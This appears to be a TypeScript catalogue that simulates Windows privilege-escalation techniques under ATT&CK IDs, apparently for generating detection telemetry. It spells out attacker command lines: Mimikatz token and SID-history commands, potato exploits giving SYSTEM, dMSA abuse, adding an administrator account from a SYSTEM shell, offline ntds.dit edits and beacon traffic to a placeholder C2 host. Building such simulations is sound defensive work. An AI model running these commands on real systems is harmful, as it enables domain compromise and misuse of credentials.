import { t, v, localPsExec } from "../dsl";

/** Privilege escalation: injection, token tricks, UAC bypasses, policy abuse. */
export const privilegeEscalation = [
  t("T1055", "Process injection", "Code injected into another process (OpenProcess + CreateRemoteThread).", [
    v("createremotethread", [
      { cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1fffff"], thread: "@explorer" },
    ]),
    v(
      "invoke-shellcode",
      [
        {
          ps: "Invoke-Shellcode -ProcessId (Get-Process explorer).Id -Shellcode $buf -Force",
          access: ["@explorer", "0x143a"],
          thread: "@explorer",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1055.001", "DLL injection", "LoadLibrary injected with CreateRemoteThread or mavinject.", [
    v("mavinject", [
      {
        cmd: "mavinject.exe {pid:@explorer} /INJECTRUNNING {{appdata}}\\{{rand}}.dll",
        access: ["@explorer", "0x1fffff"],
        thread: "@explorer",
      },
    ]),
    v("loadlibrary-thread", [
      {
        cmd: "{{tools}}\\inject.exe {pid:@explorer} {{tools}}\\{{rand}}.dll",
        access: ["@explorer", "0x43a"],
        thread: "@explorer",
      },
    ]),
    // A 32-bit Cobalt Strike beacon's dllinject: the 64-bit target is its spawnto, started through
    // %windir%\sysnative, and the reflective DLL is written into it and started with a remote thread.
    v(
      "beacon-x86-dllinject",
      [
        {
          cmd: "C:\\Windows\\SysWOW64\\rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
          as: "beacon",
          parent: "@explorer",
          net: [["{{c2}}", 443]],
          keep: true,
        },
        {
          cmd: "C:\\Windows\\sysnative\\{{spawnto}}",
          image: "C:\\Windows\\System32\\{{spawnto}}",
          as: "sac",
          parent: "beacon",
          keep: true,
        },
        { by: "beacon", access: ["sac", "0x1fffff"], thread: "sac" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1055.002", "PE injection", "A PE written into a remote process and started with a remote thread.", [
    v("pe-inject", [
      { cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f3fff"], thread: "@explorer" },
    ]),
  ]),
  t("T1055.003", "Thread execution hijacking", "A remote thread suspended and its context changed.", [
    v("hijack", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1fffff"] }]),
  ]),
  t("T1055.004", "APC injection", "QueueUserAPC into a freshly started, suspended process (early bird).", [
    v("early-bird", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\notepad.exe", parent: "l" },
    ]),
  ]),
  t("T1055.005", "Thread local storage", "TLS callbacks of a modified binary run the payload.", [
    v("tls", ["{{tmp}}\\{{name}}.exe"]),
  ]),
  t(
    "T1055.011",
    "Extra window memory injection",
    "Shellcode via SetWindowLong into explorer's tray window.",
    [v("ewm", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }])],
  ),
  t("T1055.012", "Process hollowing", "A suspended svchost/rundll32 hollowed and resumed by a loader.", [
    v("hollow-svchost", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\svchost.exe", parent: "l", net: [["{{c2}}", 443]] },
    ]),
    v("hollow-rundll32", [
      { cmd: "{{appdata}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\SysWOW64\\rundll32.exe", parent: "l", net: [["{{c2}}", 443]] },
    ]),
  ]),
  t("T1055.013", "Process doppelgänging", "A transacted file mapped and run as a new process.", [
    v("txf", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\svchost.exe", parent: "l" },
    ]),
  ]),
  t("T1055.015", "ListPlanting", "Shellcode via a list-view control's message handling.", [
    v("listplanting", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }]),
  ]),
  t("T1068", "Privilege escalation exploit", "A local exploit (PrintNightmare, potato) giving SYSTEM.", [
    // BadSuccessor (Windows Server 2025 dMSA): with CreateChild on an OU, SharpSuccessor creates a dMSA that
    // "succeeds" a Domain Admin, and the dMSA's ticket then carries that admin's privileges.
    v("badsuccessor", [
      {
        cmd: '{{tools}}\\SharpSuccessor.exe add /impersonate:Administrator /path:"OU={{Staging|Temp|Servers}},{{domaindn}}" /account:{{user}} /name:{{name}}_dmsa',
        net: [["@dc", 389]],
      },
    ]),
    v("potato", [
      { cmd: "{{tools}}\\PrintSpoofer64.exe -i -c cmd.exe", as: "p", pipes: ["\\{{rand}}\\pipe\\spoolss"] },
      { cmd: "cmd.exe", parent: "p", user: "@system" },
    ]),
    v("juicypotato", [
      {
        cmd: '{{tools}}\\JuicyPotato.exe -l 1337 -p C:\\Windows\\System32\\cmd.exe -a "/c {{tools}}\\{{rand}}.exe" -t *',
        as: "p",
      },
      {
        cmd: "C:\\Windows\\System32\\cmd.exe /c {{tools}}\\{{rand}}.exe",
        parent: "p",
        user: "@system",
        as: "c",
      },
      { cmd: "{{tools}}\\{{rand}}.exe", parent: "c" },
    ]),
  ]),
  t("T1134", "Access token manipulation", "Tokens stolen or created to act as another user.", [
    v("runas-netonly", [
      {
        cmd: "runas /netonly /user:{{domain}}\\{{admin}} cmd.exe",
        then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
      },
      // Secondary Logon starts it with the caller's token and the admin's network credentials.
      { cmd: "cmd.exe", parent: "@svchost:netsvcs", keep: true },
    ]),
  ]),
  t("T1134.001", "Token impersonation/theft", "Incognito/Mimikatz token::elevate and PsExec -s.", [
    v(
      "mimikatz-token",
      ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "token::whoami" exit'],
      { elevated: true },
    ),
    // SharpImpersonation duplicates the token of a process the admin runs and starts a shell with it.
    v(
      "sharpimpersonation",
      [
        {
          cmd: '{{tools}}\\SharpImpersonation.exe user:"{{domain}}\\{{admin}}" binary:"cmd.exe"',
          access: ["@explorer", "0x1400"],
          as: "si",
        },
        { cmd: "cmd.exe", parent: "si", user: "@admin" },
      ],
      { elevated: true },
    ),
    v(
      "incognito",
      [
        { cmd: '{{tools}}\\incognito.exe execute -c "{{domain}}\\{{admin}}" cmd.exe', as: "inc" },
        { cmd: "cmd.exe", parent: "inc", user: "@admin", keep: true },
      ],
      { elevated: true },
    ),
    // GhostPack Koh keeps the tokens of every new logon session and hands them out over its named pipe.
    v("koh-capture", [{ cmd: "{{tools}}\\Koh.exe capture", pipes: ["\\imposecost"], keep: true }], {
      elevated: true,
    }),
    // PsExec installs PSEXESVC locally; the service starts the SYSTEM shell on the user's desktop (-i).
    v(
      "psexec-system",
      [
        ...localPsExec("{{tools}}\\PsExec64.exe -accepteula -s -i cmd.exe", "p"),
        { cmd: "cmd.exe", parent: "pss", keep: true },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1134.002",
    "Create process with token",
    "runas / Start-Process -Credential starting a process as another user.",
    [
      // The Secondary Logon service (seclogon, in svchost) creates the process under the other account.
      v("runas", [
        {
          cmd: "runas /user:{{domain}}\\{{admin}} cmd.exe",
          then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
        },
        { cmd: "cmd.exe", parent: "@svchost:netsvcs", user: "@admin" },
      ]),
      v(
        "start-process-credential",
        [
          {
            ps: "Start-Process cmd.exe -Credential (New-Object System.Management.Automation.PSCredential('{{domain}}\\{{admin}}', $pw))",
            then: [
              { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1134.003", "Make and impersonate token", "LogonUser with explicit credentials (make_token).", [
    v("make-token", [
      {
        cmd: "{{tools}}\\{{name}}.exe",
        then: [
          {
            id: "l",
            kind: "logon",
            session: "mt",
            user: "@admin",
            logonType: 9,
            authPackage: "Negotiate",
          },
          { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
        ],
      },
    ]),
  ]),
  t(
    "T1134.004",
    "Parent PID spoofing",
    "A process started with PROC_THREAD_ATTRIBUTE_PARENT_PROCESS: it gets the chosen parent and, with it, that parent's token.",
    [
      // decoder-it psgetsys.ps1: a child of lsass inherits SYSTEM; the operator then works in that shell.
      v(
        "psgetsys-lsass",
        [
          {
            ps: '. {{tools}}\\psgetsys.ps1; [MyProcess]::CreateProcessFromParent((Get-Process lsass).Id,"C:\\Windows\\System32\\cmd.exe","")',
            access: ["@lsass", "0x1fffff"],
          },
          { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@lsass", as: "sys" },
          { cmd: "net user {{name}} Winter2025! /add", parent: "sys" },
          { cmd: "net localgroup administrators {{name}} /add", parent: "sys" },
        ],
        { shell: "ps", elevated: true },
      ),
      // Atomic T1134.004 #4: Start-ATHProcessUnderSpecificParent with the first svchost as parent (SYSTEM).
      v(
        "ath-svchost",
        [
          {
            ps: "Get-CimInstance -ClassName Win32_Process -Property Name, CommandLine, ProcessId -Filter \"Name = 'svchost.exe' AND CommandLine LIKE '%'\" | Select-Object -First 1 | Start-ATHProcessUnderSpecificParent -FilePath $Env:windir\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -CommandLine '-Command Start-Sleep 10'",
            access: ["@svchost:DcomLaunch", "0x80"],
          },
          {
            cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -Command Start-Sleep 10',
            parent: "@svchost:DcomLaunch",
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "ppid-spoof",
        [
          {
            ps: "Start-ATHProcessUnderSpecificParent -FilePath C:\\Windows\\System32\\cmd.exe -ParentId (Get-Process explorer).Id",
            access: ["@explorer", "0x80"],
          },
          { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@explorer" },
        ],
        { shell: "ps" },
      ),
      v(
        "selectmyparent",
        [
          { cmd: "{{tools}}\\SelectMyParent.exe notepad.exe {pid:@lsass}", access: ["@lsass", "0x1fffff"] },
          { cmd: "notepad.exe", parent: "@lsass" },
        ],
        { elevated: true },
      ),
    ],
  ),
  t(
    "T1134.005",
    "SID-history injection",
    "sIDHistory written on a DC: Mimikatz sid::patch + sid::add over LDAP (4738 with SidHistory), or DSInternals offline.",
    [
      v(
        "mimikatz-sid-add",
        [
          {
            cmd: 'cmd.exe /Q /c C:\\Windows\\Temp\\mimikatz.exe "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:{{dsid}}-512" exit 1> \\\\127.0.0.1\\ADMIN$\\__{{n}}.{{rand}} 2>&1',
            as: "c",
            host: "@dc",
            parent: "@wmiprvse",
            user: "@admin",
          },
          {
            cmd: 'C:\\Windows\\Temp\\mimikatz.exe  "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:{{dsid}}-512" exit',
            as: "mk",
            parent: "c",
            host: "@dc",
            access: ["@lsass", "0x1438"],
            net: [["@dc", 389]],
            then: [
              {
                id: "sidh",
                proc: "mk",
                kind: "directory.change",
                host: "@dc",
                object: "{{user}}",
                objectClass: "user",
                changes: [{ attribute: "sIDHistory", value: "{{dsid}}-512" }],
              },
            ],
          },
        ],
        { shell: "none", needs: ["domain admin on a domain controller"] },
      ),
      // DSInternals edits ntds.dit offline, typed in a PowerShell remoting session on the DC: no directory
      // audit, only the WinRM logon and the script blocks in wsmprovhost.
      v(
        "dsinternals-offline",
        [
          {
            ps: "Enter-PSSession -ComputerName {{dcfqdn}}",
            net: [["@dc", 5985]],
            then: [
              {
                id: "logon",
                kind: "logon",
                host: "@dc",
                session: "wsm",
                user: "@admin",
                logonType: 3,
                source: "@workstation",
                authPackage: "Kerberos",
              },
            ],
          },
          {
            cmd: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            as: "w",
            host: "@dc",
            parent: "@svchost:DcomLaunch",
            user: "@admin",
          },
          { by: "w", ps: "Import-Module DSInternals; Stop-Service ntds -Force" },
          {
            by: "w",
            ps: "Add-ADDBSidHistory -SamAccountName {{user}} -SidHistory {{dsid}}-512 -DatabasePath C:\\Windows\\NTDS\\ntds.dit -Force",
            reads: ["C:\\Windows\\NTDS\\ntds.dit"],
          },
          { by: "w", ps: "Start-Service ntds" },
        ],
        { shell: "ps", user: "@admin", needs: ["domain admin on a domain controller"] },
      ),
    ],
  ),
];
